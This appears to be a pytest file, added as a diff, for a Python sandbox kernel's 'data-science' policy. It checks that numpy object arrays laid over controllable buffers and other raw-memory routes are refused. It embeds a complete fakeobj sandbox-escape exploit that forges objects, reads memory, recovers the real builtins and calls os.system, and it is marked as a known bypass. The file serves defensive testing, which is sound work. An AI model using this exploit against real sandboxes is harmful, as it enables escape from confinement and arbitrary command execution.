@@ -1,0 +1,94 @@
+"""Must-block: raw memory through numpy. An object array laid over a buffer the cell controls is a
+'fakeobj' primitive: any address becomes a Python object, a fake bytearray spans the address space, and
+the real builtins are one pointer away. Runs in a child process (a mistake here segfaults)."""
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import textwrap
+
+import pytest
+
+CHILD = textwrap.dedent("""
+    import json, sys, tempfile
+    from sandbox_kernel.engine import Engine
+    from sandbox_kernel.policy import PRESETS
+    eng = Engine(PRESETS["data-science"], workdir=tempfile.mkdtemp())
+    done = eng.run_cell(sys.argv[1], emit=lambda e: None)
+    ns = eng.namespace
+    print(json.dumps({"status": done["status"], "ename": (done["error"] or {}).get("ename"),
+                      "denials": len(done["denials"]), "got_object_array": bool(ns.get("ok_made"))}))
+    sys.stdout.flush()
+    import os
+    os._exit(0)   # skip teardown of forged objects
+""")
+
+
+def _run(src, timeout=30):
+    out = subprocess.run([sys.executable, "-c", CHILD, src], capture_output=True, text=True, timeout=timeout,
+                         cwd=os.path.dirname(os.path.dirname(__file__)))
+    lines = out.stdout.strip().splitlines()
+    return json.loads(lines[-1]) if lines else {"crashed": out.returncode, "stderr": out.stderr[-500:]}
+
+
+FAKEOBJ_EXPLOIT = """\
+import numpy as np, json
+buf = bytearray(8)
+arr = {constructor}
+def p64(n):
+    return n.to_bytes(8, 'little')
+def fakeobj(addr):
+    buf[0:8] = p64(addr)
+    o = arr[0] if arr.dtype.names is None else arr[0][0]
+    buf[0:8] = p64(0)
+    return o
+fake = p64(1 << 40) + p64(id(bytearray)) + p64(1 << 62) + p64((1 << 62) + 1) + p64(0) + p64(0) + p64(0)
+mem = fakeobj(id(fake) + 32)
+def read64(addr):
+    return int.from_bytes(mem[addr:addr + 8], 'little')
+real_builtins = fakeobj(read64(id(json.dumps) + 24))
+real_builtins['exec']("import sandbox_kernel.confine as c\\nc._FS.set(None)\\nimport os\\nos.system('echo PWNED > {marker}')", {{}})
+"""
+
+CONSTRUCTORS = [
+    "np.ndarray((1,), dtype=object, buffer=buf)",
+    "np.ndarray.__new__(np.ndarray, (1,), dtype=object, buffer=buf)",
+    "np.recarray((1,), dtype=[('a', 'O')], buf=buf)",
+]
+
+
+@pytest.mark.xfail(strict=True, reason="BYPASS (memory): np.ndarray(dtype=object, buffer=<cell bytearray>) is a "
+                                       "fakeobj primitive -> fake bytearray over all memory -> real builtins -> "
+                                       "exec -> os.system")
+@pytest.mark.parametrize("constructor", CONSTRUCTORS)
+def test_object_array_over_a_buffer_is_refused(tmp_path, constructor):
+    marker = tmp_path / "fakeobj.txt"
+    result = _run(FAKEOBJ_EXPLOIT.format(constructor=constructor, marker=marker))
+    assert not marker.exists(), f"os.system ran ({result})"
+    assert result.get("status") == "error" and result.get("denials"), result
+
+
+@pytest.mark.xfail(strict=True, reason="BYPASS (memory): object arrays can be laid over raw buffers")
+@pytest.mark.parametrize("src", [
+    "import numpy as np\nclass A(np.ndarray):\n    pass\nok_made = A((1,), dtype=object, buffer=bytearray(8)) is not None",
+    "import numpy as np\nok_made = np.ma.MaskedArray(np.ndarray((1,), dtype=object, buffer=bytearray(8))) is not None",
+    "import numpy as np\nok_made = np.ndarray((2,), dtype=[('a', 'i8'), ('b', 'O')], buffer=bytearray(32)) is not None",
+])
+def test_object_dtype_over_buffer_variants(src):
+    result = _run(src)
+    assert not result.get("got_object_array"), result
+
+
+@pytest.mark.parametrize("src", [
+    "import numpy as np\nnp.zeros(1, np.int64).view(object)",
+    "import numpy as np\nnp.frombuffer(bytearray(8), dtype=object)",
+    "import numpy as np\nnp.zeros(1, np.int64).getfield(np.dtype('O'), 0)",
+    "import numpy as np\nnp.zeros(1, dtype=[('a', 'i8')]).view([('a', 'O')])",
+    "import numpy as np\nnp.lib.stride_tricks.as_strided(np.zeros(1), shape=(2,), strides=(10**9,))",
+    "import numpy as np\nnp.zeros(1).ctypes",
+])
+def test_numpy_raw_memory_routes_stay_closed(src):
+    result = _run(src)
+    assert result.get("status") == "error", result
